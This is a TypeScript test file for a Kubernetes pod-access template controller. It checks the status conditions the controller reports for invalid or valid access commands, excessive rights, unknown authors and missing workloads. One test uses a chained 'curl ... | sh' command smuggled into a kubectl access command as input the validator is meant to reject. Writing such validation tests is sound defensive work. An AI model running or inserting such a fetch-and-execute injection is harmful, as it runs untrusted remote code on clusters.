import assert from 'node:assert/strict';
import { podAccessTemplates } from '../../../../src/api/access/pod-access.ts';
import type { TemplateStatus } from '../../../../src/api/access/status.ts';
import type { KubeObject } from '../../../../src/api/object.ts';
import { podTemplateManifest } from '../../../support/access-objects.ts';
import { LifecycleStage } from '../lifecycle/lifecycle-stage.ts';

describe('the conditions of a template', () => {
  /** Skips the webhook, like a template from before the webhook denied its spec. */
  const statusOf = async (spec: object, { hasAuthor = false } = {}): Promise<TemplateStatus> => {
    const stage = new LifecycleStage();
    const manifest = podTemplateManifest();
    const { namespace = '', name } = manifest.metadata;
    const version = { uid: 't-1', generation: 2 };
    const author = { username: 'erin', uid: '', groups: [], time: '2026-11-21T09:00:00Z' };
    const metadata = { ...manifest.metadata, ...version };
    const complete = { ...(manifest.spec as object), ...(hasAuthor ? { author } : {}), ...spec };
    stage.cluster.put(podAccessTemplates, { ...manifest, metadata, spec: complete } as KubeObject);
    await stage.start();
    const status = stage.cluster.find(podAccessTemplates, { namespace, name })?.status as TemplateStatus;
    await stage.stop();
    return status;
  };
  const { accessConfig, controllerTargetRef } = podTemplateManifest().spec as Record<string, object>;
  const statusWith = (accessCommand: string): Promise<TemplateStatus> =>
    statusOf({ accessConfig: { ...accessConfig, accessCommand } });
  const condition = ({ conditions = [] }: TemplateStatus, type: string) =>
    conditions.filter((one) => one.type === type).map(({ status, reason }) => [status, reason])[0];

  it('report an invalid access command until it is changed', async () => {
    const status = await statusWith('kubectl exec {{ .Metadata.Name }} -- sh; curl https://example.org/x | sh');
    assert.deepEqual(condition(status, 'AccessCommandValid'), ['False', 'InvalidAccessCommand']);
    assert.deepEqual(condition(status, 'Stalled'), ['True', 'InvalidAccessCommand']);
    assert.equal(status.ready, false);
  });

  it('report a valid access command', async () => {
    const status = await statusWith('kubectl exec -n {{ .Metadata.Namespace }} {{ .Metadata.Name }} -- sh');
    assert.deepEqual(condition(status, 'AccessCommandValid'), ['True', 'Success']);
    assert.equal(
      status.conditions?.find(({ type }) => type === 'AccessCommandValid')?.message,
      'the access command is one call of kubectl or oc, with the granted pod',
    );
    assert.equal(status.ready, true);
  });

  const rules = (...added: { verbs: string[]; resources: string[] }[]) => ({
    accessConfig: { ...accessConfig, rules: added.map((rule) => ({ apiGroups: [''], ...rule })) },
  });
  /** 32 rights. */
  const rightsTo = (...verbs: string[]) => ({ verbs, resources: ['pods', 'pods/a', 'pods/b', 'pods/c'] });
  const missing = { controllerTargetRef: { ...controllerTargetRef, name: 'missing' } };
  const summaries: [title: string, reason: string, summary: 'Stalled' | 'Reconciling', spec: object][] = [
    ['its rules are invalid', 'InvalidTemplate', 'Stalled', rules({ verbs: ['get'], resources: ['secrets'] })],
    [
      'it adds too many rights',
      'InvalidTemplate',
      'Stalled',
      rules(rightsTo(...'abcdefgh'), rightsTo(...'ijklmnop'), rightsTo('q')),
    ],
    ['its author is unknown', 'AuthorUnknown', 'Stalled', { author: undefined, allowPrivilegedPod: true }],
    [
      'its author is unknown and its workload is missing',
      'AuthorUnknown',
      'Stalled',
      { ...missing, author: undefined, allowPrivilegedPod: true },
    ],
    ['its workload is missing, which may be created', 'TargetNotFound', 'Reconciling', missing],
    ['its author lacks permissions, which may be granted', 'AuthorLacksRights', 'Reconciling', {}],
  ];
  for (const [title, reason, summary, spec] of summaries) {
    it(`report ${summary} if ${title}`, async () => {
      const status = await statusOf(spec, { hasAuthor: true });
      const found = ['Ready', 'Stalled', 'Reconciling'].map((type) => condition(status, type));
      const abnormal = ['True', reason];
      const [stalled, reconciling] = summary === 'Stalled' ? [abnormal, undefined] : [undefined, abnormal];
      assert.deepEqual(found, [['False', reason], stalled, reconciling]);
    });
  }
});
